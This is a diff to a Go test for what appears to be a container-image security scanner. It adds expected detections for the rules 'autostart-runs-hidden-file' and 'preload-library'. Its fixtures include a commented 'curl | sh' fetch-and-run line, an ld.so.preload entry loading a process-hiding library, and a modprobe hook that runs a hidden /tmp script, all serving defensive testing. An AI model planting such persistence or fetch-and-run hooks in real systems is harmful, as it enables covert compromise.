@@ -252,6 +252,7 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		ent{name: "etc/profile.d/motd.sh", body: "# curl http://example.com | sh\necho hello\n"})),
 		hit{rule: "autostart-fetches-code", path: "/etc/systemd/system/netsync.service", layer: 1},
 		hit{rule: "autostart-fetches-code", path: "/var/spool/cron/crontabs/www-data", layer: 1},
+		hit{rule: "autostart-runs-hidden-file", path: "/var/spool/cron/crontabs/www-data", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/systemd/system/netsync.service", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/systemd/system/app.service", layer: 1},
 		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/www-data", layer: 1},
@@ -263,6 +264,7 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		ent{name: "etc/ld.so.preload", body: "/usr/lib/libprocesshider.so\n"},
 		ent{name: "etc/modprobe.d/local.conf", body: "blacklist pcspkr\ninstall usb-storage /bin/true\ninstall dummy /tmp/.m.sh\n"})),
 		hit{rule: "persistence-point", path: "/etc/ld.so.preload", layer: 1},
+		hit{rule: "preload-library", path: "/etc/ld.so.preload", layer: 1},
 		hit{rule: "kernel-module-autoload", path: "/etc/modprobe.d/local.conf", layer: 1})
 
 	// Name resolution and package sources: a mirror and the image's own pip
@@ -324,6 +326,9 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		add(ti.testImage, ti.hits...)
 	}
 	for _, ti := range techniqueImages(t, base) {
+		add(ti.testImage, ti.hits...)
+	}
+	for _, ti := range variantImages(t, base) {
 		add(ti.testImage, ti.hits...)
 	}
 	return imgs, want
